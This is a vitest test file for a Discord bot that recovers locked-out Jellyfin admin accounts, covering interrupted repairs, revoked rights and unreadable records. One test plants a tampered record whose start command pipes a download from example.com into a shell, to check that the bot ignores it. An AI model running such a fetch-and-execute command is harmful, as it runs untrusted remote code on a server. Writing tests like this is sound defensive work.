import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import {
  closeHouses,
  diesInTheRepair,
  forgetsItsEnd,
  isAskedAboutKey,
  lockedOut,
  signIn,
  startsAndGoesOn,
  startsWithTheirPassword,
  storedPassword,
  type LockedOut,
} from './locked-out.js';
import { rescueHouse } from './rescue-house.js';

afterEach(closeHouses);

const noPassword = /rescue of boss that @?.* began is finished.*no password/;
const mayBeThere = /nobody knows it any more/;

describe('a bot that died after the repair', () => {
  test('says at its next start that a key may be left that nobody knows', async () => {
    const bot = await lockedOut();
    await startsAndGoesOn(bot);
    await isAskedAboutKey(bot);
    await bot.app.stop();
    forgetsItsEnd(bot);
    await bot.restart();
    const word = await bot.dad.sees(/stopped in the middle of the rescue of boss/, { in: 'dm' });
    expect(word.text).toMatch(mayBeThere);
  });

  test('does not speak of the key that it has in its settings', async () => {
    const bot = await lockedOut();
    await startsAndGoesOn(bot);
    await isAskedAboutKey(bot);
    await bot.dad.presses('Keep the key');
    await bot.dad.sees(/You are back in/, { in: 'dm' });
    await bot.app.stop();
    forgetsItsEnd(bot);
    bot.settings.JELLYFIN_API_KEY = bot.savedKeys[0] ?? '';
    await bot.restart();
    const word = await bot.dad.sees(/stopped in the middle of the rescue of boss/, { in: 'dm' });
    expect(word.text).not.toMatch(mayBeThere);
  });
});

describe('rights that are taken away while the bot is gone: the repair is finished, the server runs, no password', () => {
  async function getsNoPassword(bot: LockedOut): Promise<void> {
    const aunt = bot.discord.addPerson('Aunt', { roles: [bot.discord.roles['admin'] ?? ''] });
    await bot.restart();
    await aunt.sees(noPassword, { in: bot.discord.adminChannelId });
    expect(await signIn(bot, 'forgotten')).toBe(401);
    expect(bot.dad.directMessages().some(({ text }) => text.includes('||'))).toBe(false);
  }

  test('the role', async () => {
    const bot = await diesInTheRepair();
    bot.dad.setRoles([]);
    await getsNoPassword(bot);
  });

  test('being in the server at all', async () => {
    const bot = await diesInTheRepair();
    bot.dad.leaves();
    await getsNoPassword(bot);
  });
});

test('somebody who keeps their password keeps it also where the bot and the repair die, and are started again', async () => {
  const bot = await diesInTheRepair(startsWithTheirPassword);
  const before = storedPassword(bot);
  await bot.restart();
  await bot.dad.sees(/stopped in the middle of the rescue of boss, and go on with it now/, { in: 'dm' });
  const end = await bot.dad.sees(/sign in with the password that you know/, { in: 'dm' });
  expect(end.labels).toEqual([]);
  expect(storedPassword(bot)).toBe(before);
  expect(bot.dad.directMessages().some(({ text }) => text.includes('||'))).toBe(false);
});

test("linuxserver's folder, in which the server folder is one further down: the record is found there, too", async () => {
  const bot = await diesInTheRepair();
  const config = mkdtempSync(join(tmpdir(), 'latchkey-config-'));
  symlinkSync(bot.server.dir, join(config, 'data'));
  bot.settings.JELLYFIN_SERVER_DIR = config;
  await bot.restart();
  await bot.dad.sees(/stopped in the middle of the rescue of boss, and go on with it now/, { in: 'dm' });
  await isAskedAboutKey(bot);
  rmSync(config, { recursive: true });
});

test('a rescue on the command line was cut short: the admins hear of it, with the command of the settings, and not the record’s', async () => {
  const bot = await rescueHouse({
    knowsFolder: true,
    env: {
      JELLYFIN_URL: 'http://127.0.0.1:1',
      JELLYFIN_STOP_COMMAND: 'systemctl stop jellyfin',
      JELLYFIN_START_COMMAND: 'systemctl start jellyfin',
    },
    before: ({ jellyfin }) => {
      const record = {
        ...{ version: 1, account: { name: 'boss' }, startedAt: 1_700_000_000_000 },
        ...{ stage: 'stopped', stoppedByUs: true, startCommand: ['curl', 'https://example.com/|sh'] },
      };
      mkdirSync(join(jellyfin.serverDir, 'data'), { recursive: true });
      writeFileSync(join(jellyfin.serverDir, 'data', 'jellyfin.db.latchkey.json'), JSON.stringify(record));
    },
  });
  const admins = { in: bot.discord.adminChannelId };
  await bot.dad.sees(/may still be stopped.* or start Jellyfin with: systemctl start jellyfin/, admins);
});

test('a record that cannot be read is not taken for none: the admins hear that Jellyfin may be stopped', async () => {
  const bot = await rescueHouse({
    knowsFolder: true,
    before: async ({ jellyfin }) => {
      // What another user's is to the bot, this is to root, who may read everything.
      writeFileSync(join(jellyfin.serverDir, 'data', 'jellyfin.db.latchkey.json'), '{');
      await jellyfin.starting('refused');
    },
  });
  const admins = { in: bot.discord.adminChannelId };
  await bot.dad.sees(/Jellyfin may be stopped: .* I cannot read .*jellyfin\.db\.latchkey\.json/, admins);
});
